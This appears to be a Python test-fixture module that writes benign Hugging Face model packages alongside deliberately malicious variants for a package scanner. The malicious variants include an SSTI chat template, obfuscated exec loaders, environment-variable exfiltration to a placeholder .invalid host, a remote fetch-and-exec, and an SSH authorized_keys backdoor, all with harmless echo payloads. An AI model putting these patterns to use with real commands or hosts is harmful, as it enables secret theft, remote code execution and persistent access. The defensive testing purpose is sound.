"""Hugging Face package builders: realistic benign configs/code written from scratch, and malicious variants.

Every payload is harmless: the command is "echo modelcert-test", hosts are `.invalid`, nothing is
ever imported, executed or unpickled by the tests.
"""

from __future__ import annotations

import base64
import json
import marshal
import zlib
from pathlib import Path
from typing import Any

CMD = "echo modelcert-test"
HOST = "collector.modelcert-test.invalid"

# ---- benign configs ------------------------------------------------------------------------------

LLAMA_CONFIG: dict[str, Any] = {
    "architectures": ["LlamaForCausalLM"],
    "attention_bias": False,
    "attention_dropout": 0.0,
    "bos_token_id": 128000,
    "eos_token_id": [128001, 128008, 128009],
    "head_dim": 64,
    "hidden_act": "silu",
    "hidden_size": 2048,
    "initializer_range": 0.02,
    "intermediate_size": 8192,
    "max_position_embeddings": 131072,
    "mlp_bias": False,
    "model_type": "llama",
    "num_attention_heads": 32,
    "num_hidden_layers": 16,
    "num_key_value_heads": 8,
    "pretraining_tp": 1,
    "rms_norm_eps": 1e-05,
    "rope_scaling": {
        "factor": 32.0,
        "high_freq_factor": 4.0,
        "low_freq_factor": 1.0,
        "original_max_position_embeddings": 8192,
        "rope_type": "llama3",
    },
    "rope_theta": 500000.0,
    "tie_word_embeddings": True,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.45.0.dev0",
    "use_cache": True,
    "vocab_size": 128256,
}

CUSTOM_CONFIG: dict[str, Any] = {
    "_name_or_path": "toy-org/toy-7b",
    "architectures": ["ToyForCausalLM"],
    "auto_map": {
        "AutoConfig": "configuration_toy.ToyConfig",
        "AutoModel": "modeling_toy.ToyModel",
        "AutoModelForCausalLM": "modeling_toy.ToyForCausalLM",
    },
    "hidden_size": 1024,
    "intermediate_size": 2816,
    "model_type": "toy",
    "num_attention_heads": 16,
    "num_hidden_layers": 8,
    "rope_theta": 10000.0,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.44.2",
    "vocab_size": 32000,
}

GENERATION_CONFIG: dict[str, Any] = {
    "bos_token_id": 128000,
    "do_sample": True,
    "eos_token_id": [128001, 128008, 128009],
    "temperature": 0.6,
    "top_p": 0.9,
    "transformers_version": "4.45.0.dev0",
}

SPECIAL_TOKENS_MAP: dict[str, Any] = {
    "bos_token": {
        "content": "<s>",
        "lstrip": False,
        "normalized": False,
        "rstrip": False,
        "single_word": False,
    },
    "eos_token": {
        "content": "</s>",
        "lstrip": False,
        "normalized": False,
        "rstrip": False,
        "single_word": False,
    },
    "unk_token": {
        "content": "<unk>",
        "lstrip": False,
        "normalized": False,
        "rstrip": False,
        "single_word": False,
    },
}

CHAT_TEMPLATE = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] "
    "+ '<|im_end|>' + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
    "{% endif %}"
)
SSTI_TEMPLATE = (
    "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}"
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
)


def tokenizer_config(*, chat_template: Any = CHAT_TEMPLATE, auto_map: Any = None) -> dict[str, Any]:
    config: dict[str, Any] = {
        "add_bos_token": True,
        "add_eos_token": False,
        "added_tokens_decoder": {
            "0": {
                "content": "<unk>",
                "lstrip": False,
                "normalized": False,
                "rstrip": False,
                "single_word": False,
                "special": True,
            },
            "1": {
                "content": "<s>",
                "lstrip": False,
                "normalized": False,
                "rstrip": False,
                "single_word": False,
                "special": True,
            },
            "2": {
                "content": "</s>",
                "lstrip": False,
                "normalized": False,
                "rstrip": False,
                "single_word": False,
                "special": True,
            },
        },
        "bos_token": "<s>",
        "clean_up_tokenization_spaces": False,
        "eos_token": "</s>",
        "legacy": False,
        "model_max_length": 4096,
        "pad_token": None,
        "padding_side": "left",
        "sp_model_kwargs": {},
        "tokenizer_class": "LlamaTokenizer",
        "unk_token": "<unk>",
    }
    if chat_template is not None:
        config["chat_template"] = chat_template
    if auto_map is not None:
        config["auto_map"] = auto_map
        config["tokenizer_class"] = "ToyTokenizer"
    return config


def tokenizer_json(vocab_size: int = 3000) -> dict[str, Any]:
    """A byte-level BPE tokenizer.json shaped like the `tokenizers` library writes it."""
    alphabet = [chr(c) for c in range(33, 127)] + ["Ġ", "Ċ", "ĉ"]
    vocab: dict[str, int] = {}
    for token in alphabet:
        vocab.setdefault(token, len(vocab))
    merges: list[list[str]] = []
    size = len(alphabet)
    index = 0
    while len(vocab) < vocab_size:  # every (left, right) pair below is distinct: O(vocab_size)
        left = alphabet[index % size]
        right = alphabet[(index // size) % size] + alphabet[(index // size**2) % size]
        vocab.setdefault(left + right, len(vocab))
        merges.append([left, right])
        index += 1
    return {
        "version": "1.0",
        "truncation": None,
        "padding": None,
        "added_tokens": [
            {
                "id": vocab_size + i,
                "content": tok,
                "single_word": False,
                "lstrip": False,
                "rstrip": False,
                "normalized": False,
                "special": True,
            }
            for i, tok in enumerate(["<|endoftext|>", "<|im_start|>", "<|im_end|>"])
        ],
        "normalizer": {"type": "NFC"},
        "pre_tokenizer": {
            "type": "Sequence",
            "pretokenizers": [
                {
                    "type": "Split",
                    "pattern": {"Regex": "(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+"},
                    "behavior": "Isolated",
                    "invert": False,
                },
                {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": False, "use_regex": False},
            ],
        },
        "post_processor": {
            "type": "ByteLevel",
            "add_prefix_space": False,
            "trim_offsets": False,
            "use_regex": False,
        },
        "decoder": {
            "type": "ByteLevel",
            "add_prefix_space": False,
            "trim_offsets": False,
            "use_regex": False,
        },
        "model": {
            "type": "BPE",
            "dropout": None,
            "unk_token": None,
            "continuing_subword_prefix": "",
            "end_of_word_suffix": "",
            "fuse_unk": False,
            "byte_fallback": False,
            "ignore_merges": False,
            "vocab": vocab,
            "merges": merges,
        },
    }


def shard_index(shards: dict[str, str] | None = None) -> dict[str, Any]:
    weight_map = shards or {
        "model.embed_tokens.weight": "model-00001-of-00002.safetensors",
        "model.layers.0.self_attn.q_proj.weight": "model-00001-of-00002.safetensors",
        "model.layers.1.self_attn.q_proj.weight": "model-00002-of-00002.safetensors",
        "lm_head.weight": "model-00002-of-00002.safetensors",
    }
    return {"metadata": {"total_size": 123456}, "weight_map": weight_map}


ADAPTER_CONFIG: dict[str, Any] = {
    "alpha_pattern": {},
    "base_model_name_or_path": "meta-llama/Llama-3.2-1B",
    "bias": "none",
    "fan_in_fan_out": False,
    "inference_mode": True,
    "lora_alpha": 16,
    "lora_dropout": 0.05,
    "peft_type": "LORA",
    "r": 8,
    "target_modules": ["q_proj", "v_proj"],
    "task_type": "CAUSAL_LM",
}

# ---- benign modelling code (written from scratch, shaped like real remote-code repositories) -----

CONFIGURATION_TOY = '''# coding=utf-8
"""Toy model configuration."""
from transformers.configuration_utils import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)

TOY_PRETRAINED_CONFIG_ARCHIVE_MAP = {}


class ToyConfig(PretrainedConfig):
    model_type = "toy"
    keys_to_ignore_at_inference = ["past_key_values"]

    def __init__(
        self,
        vocab_size=32000,
        hidden_size=1024,
        intermediate_size=2816,
        num_hidden_layers=8,
        num_attention_heads=16,
        num_key_value_heads=None,
        hidden_act="silu",
        max_position_embeddings=4096,
        rms_norm_eps=1e-6,
        rope_theta=10000.0,
        rope_scaling=None,
        use_cache=True,
        tie_word_embeddings=False,
        **kwargs,
    ):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.intermediate_size = intermediate_size
        self.num_hidden_layers = num_hidden_layers
        self.num_attention_heads = num_attention_heads
        self.num_key_value_heads = num_key_value_heads or num_attention_heads
        self.hidden_act = hidden_act
        self.max_position_embeddings = max_position_embeddings
        self.rms_norm_eps = rms_norm_eps
        self.rope_theta = rope_theta
        self.rope_scaling = rope_scaling
        self.use_cache = use_cache
        self._rope_scaling_validation()
        super().__init__(tie_word_embeddings=tie_word_embeddings, **kwargs)

    def _rope_scaling_validation(self):
        if self.rope_scaling is None:
            return
        if not isinstance(self.rope_scaling, dict) or len(self.rope_scaling) != 2:
            raise ValueError(f"`rope_scaling` must be a dict with two fields, got {self.rope_scaling}")
        factor = self.rope_scaling.get("factor", None)
        if factor is None or not isinstance(factor, float) or factor <= 1.0:
            raise ValueError(f"`rope_scaling`'s factor field must be a float > 1, got {factor}")
'''

MODELING_TOY = '''# coding=utf-8
"""PyTorch Toy model."""
import inspect
import math
import os
import warnings
from typing import List, Optional, Tuple, Union

import torch
import torch.nn.functional as F
import torch.utils.checkpoint
from torch import nn
from torch.nn import CrossEntropyLoss

from transformers.activations import ACT2FN
from transformers.cache_utils import Cache, DynamicCache
from transformers.modeling_outputs import BaseModelOutputWithPast, CausalLMOutputWithPast
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import (
    add_start_docstrings,
    add_start_docstrings_to_model_forward,
    is_flash_attn_2_available,
    is_flash_attn_greater_or_equal_2_10,
    logging,
)
from .configuration_toy import ToyConfig

if is_flash_attn_2_available():
    from flash_attn import flash_attn_func, flash_attn_varlen_func
    from flash_attn.bert_padding import index_first_axis, pad_input, unpad_input

    _flash_supports_window_size = "window_size" in list(inspect.signature(flash_attn_func).parameters)

try:
    from einops import rearrange
except ImportError:
    rearrange = None

logger = logging.get_logger(__name__)

_CONFIG_FOR_DOC = "ToyConfig"
_USE_FUSED = os.environ.get("TOY_FUSED_KERNELS", "0") == "1"

TOY_START_DOCSTRING = r"""
    This model inherits from [`PreTrainedModel`].
"""


class ToyRMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size))
        self.variance_epsilon = eps

    def forward(self, hidden_states):
        input_dtype = hidden_states.dtype
        hidden_states = hidden_states.to(torch.float32)
        variance = hidden_states.pow(2).mean(-1, keepdim=True)
        hidden_states = hidden_states * torch.rsqrt(variance + self.variance_epsilon)
        return self.weight * hidden_states.to(input_dtype)


class ToyRotaryEmbedding(nn.Module):
    def __init__(self, dim, max_position_embeddings=2048, base=10000, device=None):
        super().__init__()
        self.dim = dim
        self.base = base
        steps = torch.arange(0, self.dim, 2, dtype=torch.int64).float().to(device)
        inv_freq = 1.0 / (self.base ** (steps / self.dim))
        self.register_buffer("inv_freq", inv_freq, persistent=False)
        self._set_cos_sin_cache(
            max_position_embeddings, device=self.inv_freq.device, dtype=torch.get_default_dtype()
        )

    def _set_cos_sin_cache(self, seq_len, device, dtype):
        self.max_seq_len_cached = seq_len
        t = torch.arange(self.max_seq_len_cached, device=device, dtype=torch.int64).type_as(self.inv_freq)
        freqs = torch.outer(t, self.inv_freq)
        emb = torch.cat((freqs, freqs), dim=-1)
        self.register_buffer("cos_cached", emb.cos().to(dtype), persistent=False)
        self.register_buffer("sin_cached", emb.sin().to(dtype), persistent=False)

    def forward(self, x, seq_len=None):
        if seq_len > self.max_seq_len_cached:
            self._set_cos_sin_cache(seq_len=seq_len, device=x.device, dtype=x.dtype)
        return self.cos_cached[:seq_len].to(dtype=x.dtype), self.sin_cached[:seq_len].to(dtype=x.dtype)


def rotate_half(x):
    x1 = x[..., : x.shape[-1] // 2]
    x2 = x[..., x.shape[-1] // 2 :]
    return torch.cat((-x2, x1), dim=-1)


def apply_rotary_pos_emb(q, k, cos, sin, position_ids, unsqueeze_dim=1):
    cos = cos[position_ids].unsqueeze(unsqueeze_dim)
    sin = sin[position_ids].unsqueeze(unsqueeze_dim)
    return (q * cos) + (rotate_half(q) * sin), (k * cos) + (rotate_half(k) * sin)


class ToyMLP(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.gate_proj = nn.Linear(config.hidden_size, config.intermediate_size, bias=False)
        self.up_proj = nn.Linear(config.hidden_size, config.intermediate_size, bias=False)
        self.down_proj = nn.Linear(config.intermediate_size, config.hidden_size, bias=False)
        self.act_fn = ACT2FN[config.hidden_act]
        self.dtype_name = getattr(torch, getattr(config, "torch_dtype", "float32") or "float32")

    def forward(self, x):
        return self.down_proj(self.act_fn(self.gate_proj(x)) * self.up_proj(x))


class ToyAttention(nn.Module):
    def __init__(self, config: ToyConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.config = config
        self.layer_idx = layer_idx
        if layer_idx is None:
            warnings.warn("Instantiating an attention layer without `layer_idx` is not recommended.")
        self.hidden_size = config.hidden_size
        self.num_heads = config.num_attention_heads
        self.head_dim = self.hidden_size // self.num_heads
        self.q_proj = nn.Linear(self.hidden_size, self.num_heads * self.head_dim, bias=False)
        self.k_proj = nn.Linear(self.hidden_size, self.num_heads * self.head_dim, bias=False)
        self.v_proj = nn.Linear(self.hidden_size, self.num_heads * self.head_dim, bias=False)
        self.o_proj = nn.Linear(self.num_heads * self.head_dim, self.hidden_size, bias=False)
        self.rotary_emb = ToyRotaryEmbedding(self.head_dim, base=config.rope_theta)

    def forward(self, hidden_states, attention_mask=None, position_ids=None, past_key_value=None, **kwargs):
        bsz, q_len, _ = hidden_states.size()
        shape = (bsz, q_len, self.num_heads, self.head_dim)
        query_states = self.q_proj(hidden_states).view(*shape).transpose(1, 2)
        key_states = self.k_proj(hidden_states).view(*shape).transpose(1, 2)
        value_states = self.v_proj(hidden_states).view(*shape).transpose(1, 2)
        cos, sin = self.rotary_emb(value_states, seq_len=q_len)
        query_states, key_states = apply_rotary_pos_emb(query_states, key_states, cos, sin, position_ids)
        attn_weights = torch.matmul(query_states, key_states.transpose(2, 3)) / math.sqrt(self.head_dim)
        if attention_mask is not None:
            attn_weights = attn_weights + attention_mask
        attn_weights = nn.functional.softmax(attn_weights, dim=-1, dtype=torch.float32).to(query_states.dtype)
        attn_output = torch.matmul(attn_weights, value_states)
        attn_output = attn_output.transpose(1, 2).contiguous().reshape(bsz, q_len, self.hidden_size)
        return self.o_proj(attn_output), None, past_key_value


class ToyDecoderLayer(nn.Module):
    def __init__(self, config: ToyConfig, layer_idx: int):
        super().__init__()
        self.self_attn = ToyAttention(config=config, layer_idx=layer_idx)
        self.mlp = ToyMLP(config)
        self.input_layernorm = ToyRMSNorm(config.hidden_size, eps=config.rms_norm_eps)
        self.post_attention_layernorm = ToyRMSNorm(config.hidden_size, eps=config.rms_norm_eps)

    def forward(self, hidden_states, attention_mask=None, position_ids=None, **kwargs):
        residual = hidden_states
        hidden_states = self.input_layernorm(hidden_states)
        hidden_states, _, _ = self.self_attn(hidden_states, attention_mask, position_ids)
        hidden_states = residual + hidden_states
        residual = hidden_states
        hidden_states = self.mlp(self.post_attention_layernorm(hidden_states))
        return (residual + hidden_states,)


@add_start_docstrings("The bare Toy Model outputting raw hidden-states.", TOY_START_DOCSTRING)
class ToyPreTrainedModel(PreTrainedModel):
    config_class = ToyConfig
    base_model_prefix = "model"
    supports_gradient_checkpointing = True
    _no_split_modules = ["ToyDecoderLayer"]

    def _init_weights(self, module):
        std = self.config.initializer_range
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=std)
            if module.bias is not None:
                module.bias.data.zero_()
        elif isinstance(module, nn.Embedding):
            module.weight.data.normal_(mean=0.0, std=std)


class ToyModel(ToyPreTrainedModel):
    def __init__(self, config: ToyConfig):
        super().__init__(config)
        self.embed_tokens = nn.Embedding(config.vocab_size, config.hidden_size)
        self.layers = nn.ModuleList([ToyDecoderLayer(config, i) for i in range(config.num_hidden_layers)])
        self.norm = ToyRMSNorm(config.hidden_size, eps=config.rms_norm_eps)
        self.gradient_checkpointing = False
        self.post_init()

    def forward(self, input_ids=None, attention_mask=None, position_ids=None, **kwargs):
        hidden_states = self.embed_tokens(input_ids)
        for layer in self.layers:
            if self.gradient_checkpointing and self.training:
                hidden_states = self._gradient_checkpointing_func(layer.__call__, hidden_states)[0]
            else:
                hidden_states = layer(hidden_states, attention_mask, position_ids)[0]
        return BaseModelOutputWithPast(last_hidden_state=self.norm(hidden_states))


class ToyForCausalLM(ToyPreTrainedModel):
    _tied_weights_keys = ["lm_head.weight"]

    def __init__(self, config):
        super().__init__(config)
        self.model = ToyModel(config)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    def load_extra_head(self, path):
        state = torch.load(os.path.join(path, "extra_head.bin"), map_location="cpu", weights_only=True)
        self.lm_head.load_state_dict(state)

    def forward(self, input_ids=None, labels=None, **kwargs):
        outputs = self.model(input_ids=input_ids, **kwargs)
        logits = self.lm_head(outputs[0]).float()
        loss = None
        if labels is not None:
            shifted = logits[..., :-1, :].reshape(-1, logits.size(-1))
            loss = CrossEntropyLoss()(shifted, labels[..., 1:].reshape(-1))
        return CausalLMOutputWithPast(loss=loss, logits=logits)


ToyForCausalLM.register_for_auto_class("AutoModelForCausalLM")
'''

TOKENIZATION_SENTENCEPIECE = '''"""Tokenization classes for Toy (SentencePiece)."""
import os
from shutil import copyfile
from typing import Any, Dict, List, Optional, Tuple

import sentencepiece as spm

from transformers.tokenization_utils import AddedToken, PreTrainedTokenizer
from transformers.utils import logging

logger = logging.get_logger(__name__)

VOCAB_FILES_NAMES = {"vocab_file": "tokenizer.model"}


class ToyTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES
    model_input_names = ["input_ids", "attention_mask"]

    def __init__(self, vocab_file, unk_token="<unk>", bos_token="<s>", eos_token="</s>",
                 sp_model_kwargs: Optional[Dict[str, Any]] = None, **kwargs):
        self.sp_model_kwargs = {} if sp_model_kwargs is None else sp_model_kwargs
        self.vocab_file = vocab_file
        self.sp_model = spm.SentencePieceProcessor(**self.sp_model_kwargs)
        self.sp_model.Load(vocab_file)
        super().__init__(unk_token=unk_token, bos_token=bos_token, eos_token=eos_token, **kwargs)

    def __getstate__(self):
        state = self.__dict__.copy()
        state["sp_model"] = None
        return state

    def __setstate__(self, d):
        self.__dict__ = d
        self.sp_model = spm.SentencePieceProcessor(**self.sp_model_kwargs)
        self.sp_model.Load(self.vocab_file)

    @property
    def vocab_size(self):
        return self.sp_model.get_piece_size()

    def get_vocab(self):
        vocab = {self.convert_ids_to_tokens(i): i for i in range(self.vocab_size)}
        vocab.update(self.added_tokens_encoder)
        return vocab

    def _tokenize(self, text):
        return self.sp_model.encode(text, out_type=str)

    def _convert_token_to_id(self, token):
        return self.sp_model.piece_to_id(token)

    def _convert_id_to_token(self, index):
        return self.sp_model.IdToPiece(index)

    def convert_tokens_to_string(self, tokens):
        return self.sp_model.decode(tokens)

    def save_vocabulary(self, save_directory, filename_prefix: Optional[str] = None) -> Tuple[str]:
        if not os.path.isdir(save_directory):
            logger.error(f"Vocabulary path ({save_directory}) should be a directory")
            return
        out_vocab_file = os.path.join(
            save_directory,
            (filename_prefix + "-" if filename_prefix else "") + VOCAB_FILES_NAMES["vocab_file"],
        )
        same = os.path.abspath(self.vocab_file) == os.path.abspath(out_vocab_file)
        if not same and os.path.isfile(self.vocab_file):
            copyfile(self.vocab_file, out_vocab_file)
        elif not os.path.isfile(self.vocab_file):
            with open(out_vocab_file, "wb") as fi:
                fi.write(self.sp_model.serialized_model_proto())
        return (out_vocab_file,)
'''

TOKENIZATION_TIKTOKEN = '''"""Tokenization classes for Toy (tiktoken BPE ranks shipped as a file)."""
import base64
import logging
import os
import unicodedata
from typing import Collection, Dict, List, Set, Tuple, Union

import tiktoken
from transformers import AddedToken, PreTrainedTokenizer

logger = logging.getLogger(__name__)

VOCAB_FILES_NAMES = {"vocab_file": "toy.tiktoken"}
PAT_STR = (
    r"""(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}"""
    r"""| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+"""
)
ENDOFTEXT = "<|endoftext|>"
SPECIAL_TOKENS = tuple(enumerate((ENDOFTEXT, "<|im_start|>", "<|im_end|>"), start=151643))


def _load_tiktoken_bpe(tiktoken_bpe_file: str) -> Dict[bytes, int]:
    with open(tiktoken_bpe_file, "rb") as f:
        contents = f.read()
    return {
        base64.b64decode(token): int(rank)
        for token, rank in (line.split() for line in contents.splitlines() if line)
    }


class ToyTikTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES

    def __init__(self, vocab_file, errors="replace", **kwargs):
        super().__init__(**kwargs)
        self.errors = errors
        self.mergeable_ranks = _load_tiktoken_bpe(vocab_file)
        self.special_tokens = {token: index for index, token in SPECIAL_TOKENS}
        enc = tiktoken.Encoding(
            "Toy", pat_str=PAT_STR, mergeable_ranks=self.mergeable_ranks, special_tokens=self.special_tokens
        )
        assert len(self.mergeable_ranks) + len(self.special_tokens) == enc.n_vocab
        self.decoder = {v: k for k, v in self.mergeable_ranks.items()}
        self.tokenizer = enc

    def save_vocabulary(self, save_directory: str, **kwargs) -> Tuple[str]:
        file_path = os.path.join(save_directory, "toy.tiktoken")
        with open(file_path, "w", encoding="utf8") as w:
            for k, v in self.mergeable_ranks.items():
                line = base64.b64encode(k).decode("utf8") + " " + str(v) + "\\n"
                w.write(line)
        return (file_path,)

    def _decode(self, token_ids, skip_special_tokens=False, errors=None, **kwargs):
        if isinstance(token_ids, int):
            token_ids = [token_ids]
        return self.tokenizer.decode(token_ids, errors=errors or self.errors)
'''

# ---- malicious modelling code (harmless payloads) --------------------------------------------------


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


PAYLOAD = f"import os\nos.system({CMD!r})\n"

IMPORT_TIME_SYSTEM = CONFIGURATION_TOY + f"\nimport os\nos.system({CMD!r})\n"

OBFUSCATED_B64_EXEC = f'''import base64
from transformers import PretrainedConfig

_blob = "{_b64(PAYLOAD)}"
exec(base64.b64decode(_blob))


class ToyConfig(PretrainedConfig):
    model_type = "toy"
'''

OBFUSCATED_ZLIB_EXEC = f'''import zlib, base64
_c = base64.b64decode("{base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()}")
code = zlib.decompress(_c).decode("utf-8")
exec(code)
'''

_MARSHALLED = base64.b64encode(marshal.dumps(compile(PAYLOAD, "<x>", "exec"))).decode()
MARSHAL_EXEC = f'''import marshal, base64
_code = marshal.loads(base64.b64decode("{_MARSHALLED}"))
exec(_code)
'''

SUBPROCESS_ALIAS = f"""import subprocess as sp
from os import system as s


def _warmup():
    sp.Popen({CMD!r}, shell=True)


class ToyModel:
    def __init__(self):
        s({CMD!r})
"""

SOCKET_ENV_EXFIL = f'''import os
import socket


def _report():
    payload = str(dict(os.environ)).encode()
    conn = socket.create_connection(("{HOST}", 443))
    conn.sendall(payload)


_report()
'''

REQUESTS_EXEC = f"""import requests


def load_kernels():
    source = requests.get("https://{HOST}/kernels.py", timeout=5).text
    exec(source)


load_kernels()
"""

SSH_AUTHORIZED_KEYS = """import os
from pathlib import Path

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAImodelcerttest modelcert-test"


def _persist():
    ssh = Path.home() / ".ssh"
    ssh.mkdir(exist_ok=True)
    with open(os.path.join(os.path.expanduser("~"), ".ssh", "authorized_keys"), "a") as fh:
        fh.write(KEY + "\\n")


_persist()
"""


def chr_chain_exec() -> str:
    codes = ", ".join(str(ord(c)) for c in PAYLOAD)
    return f'eval(compile("".join(chr(c) for c in [{codes}]), "<x>", "exec"))\n'


# ---- package writers ---------------------------------------------------------------------------------


def write_json(folder: Path, name: str, value: Any) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value, indent=2, ensure_ascii=False))
    return path


def write_text(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def custom_code_package(
    folder: Path,
    *,
    modeling: str = MODELING_TOY,
    configuration: str = CONFIGURATION_TOY,
    config: dict[str, Any] | None = None,
) -> Path:
    """A remote-code model package: config.json wires configuration_toy.py and modeling_toy.py."""
    write_json(folder, "config.json", config or CUSTOM_CONFIG)
    write_json(folder, "generation_config.json", GENERATION_CONFIG)
    write_json(
        folder,
        "tokenizer_config.json",
        tokenizer_config(auto_map={"AutoTokenizer": ["tokenization_toy.ToyTokenizer", None]}),
    )
    write_json(folder, "special_tokens_map.json", SPECIAL_TOKENS_MAP)
    write_text(folder, "configuration_toy.py", configuration)
    write_text(folder, "modeling_toy.py", modeling)
    write_text(folder, "tokenization_toy.py", TOKENIZATION_SENTENCEPIECE)
    (folder / "tokenizer.model").write_bytes(b"\x0a\x0b<unk>\x15\x00\x00\x00\x00\x18\x02")
    write_text(folder, "README.md", "# Toy\n\nA toy model card.\n")
    return folder
